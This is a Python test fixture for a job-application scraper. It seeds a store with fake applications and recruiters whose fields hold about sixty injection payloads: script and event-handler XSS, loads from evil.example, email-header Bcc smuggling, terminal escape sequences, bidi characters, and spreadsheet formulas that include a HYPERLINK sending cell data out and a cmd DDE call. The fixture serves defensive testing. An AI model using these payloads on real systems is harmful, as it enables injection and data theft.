"""Texts that a portal, or somebody who can write on one, might put where a title or a status is due.

Every one has a mark in it, so that a test can tell that it arrived as text.
"""

from __future__ import annotations

import re
from datetime import datetime

from scraper.model import Application, Confidence, PageKind, ParsedPage, Stage
from scraper.store import Store, record_page

MARK = "Kestrel"

SCRIPTS = (
    "<script>owned('M')</script>",
    "<img src=x onerror=owned('M')>",
    "<svg onload=owned('M')>",
    "<svg><script>owned('M')</script></svg>",
    "<iframe src=javascript:owned('M')></iframe>",
    "<iframe srcdoc='<script>parent.owned(1)</script>'>M</iframe>",
    "<a href=javascript:owned('M')>M</a>",
    "<body onload=owned('M')>",
    "<details open ontoggle=owned('M')>M</details>",
    "<form action=https://evil.example><button>M</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/M'>",
    "<link rel=stylesheet href=https://evil.example/M.css>",
    "<style>@import 'https://evil.example/M.css'</style>",
    "<base href=https://evil.example/>M",
    "<object data=https://evil.example/M></object>",
    "<embed src=https://evil.example/M>",
    "<video src=https://evil.example/M autoplay></video>",
    "<math><mtext><img src=x onerror=owned('M')></math>",
    "\"><script>owned('M')</script>",
    "' onmouseover=owned('M') x='",
    "</textarea><script>owned('M')</script>",
    "</title><script>owned('M')</script>",
    "--><script>owned('M')</script>",
    "]]><script>owned('M')</script>",
    "${owned('M')}",
    "{{7*7}} M",
    "{% import os %}M",
    "#{7*7}M",
    "<%= 7*7 %>M",
    "\\u003cscript\\u003eowned('M')\\u003c/script\\u003e",
    "__proto__ M",
    "constructor M",
)

HEADERS = (
    "M\r\nBcc: thief@evil.example",
    "M\nBcc: thief@evil.example\n\nother body",
    "M&bcc=thief@evil.example",
    "M?bcc=thief@evil.example",
    "M%0d%0aBcc:%20thief@evil.example",
    "M&body=other",
    "M#fragment&cc=thief@evil.example",
    "M;attach=/etc/passwd",
    "M\u2028Bcc: thief@evil.example",
    "M\x0bBcc: thief@evil.example",
    "M\r\nATTENDEE:mailto:thief@evil.example",
    "M\nEND:VEVENT\nBEGIN:VALARM",
    "M;RRULE:FREQ=DAILY",
)

TERMINAL = (
    "\x1b[31mM\x1b[0m",
    "\x1b[2J\x1b[HM",
    "\x1b]0;M\x07",
    "\x1b]8;;https://evil.example\x1b\\M\x1b]8;;\x1b\\",
    "\x1b]52;c;TQ==\x07M",
    "\x1bP+q544e\x1b\\M",
    "\x9b31mM",
    "M\rroot@host:~# ",
    "M\b\b\bok",
    "M\x00end",
    "[bold red]M[/bold red]",
    "[link=https://evil.example]M[/link]",
    "[/]M",
)

UNICODE = (
    "\u202eM\u202c",
    "\u2066M\u2069",
    "M\u200b\u200cx",
    "\ufeffM",
    "M\U000e0041\U000e0042",
)

FORMULAS = (
    '=HYPERLINK("https://evil.example?x="&A1,"M")',
    "+cmd|' /C calc'!A0 M",
    "-2+3+cmd|' /C calc'!A0 M",
    "@SUM(1+1)*M",
    "\t=1+1 M",
    "＝1+1 M",
)

PAYLOADS = tuple(
    re.sub(r"(?<![A-Z])M(?![A-Z])", MARK, text)
    for text in (*SCRIPTS, *HEADERS, *TERMINAL, *UNICODE, *FORMULAS)
)
assert len(PAYLOADS) >= 60


def poison(store: Store, now: datetime) -> None:
    """Applications in Cleveland and recruiters, each with a payload wherever a text can stand."""
    rows = tuple(
        Application(
            portal="taleo",
            host="h.taleo.net",
            external_id=str(number),
            title=f"{text} {number}",
            company=f"{text} {number}",
            status_raw=text,
            stage=Stage.REFERRED,
            confidence=Confidence.SURE,
            location="Cleveland, OH",
            requisition=text[:40],
            url="javascript:owned(1)" if number % 2 else "https://h.taleo.net/job",
        )
        for number, text in enumerate(PAYLOADS)
    )
    page = ParsedPage(
        url="https://h.taleo.net/", host="h.taleo.net", kind=PageKind.APPLICATIONS, applications=rows
    )
    record_page(store, None, page, seen_at=now, complete=False)
    with store.transaction() as tx:
        for number, text in enumerate(PAYLOADS):
            document = {
                "id": f"r{number}",
                "name": text,
                "email": f"r{number}@example.org" if number % 2 else text,
                "phone": text[:40],
                "employer": f"{text} {number}",
                "whole_employer": True,
            }
            tx.put("recruiters", f"r{number}", document)
        tx.put("settings", "me", {"name": "Dana Reyes", "phone": "(555) 010-0142"})
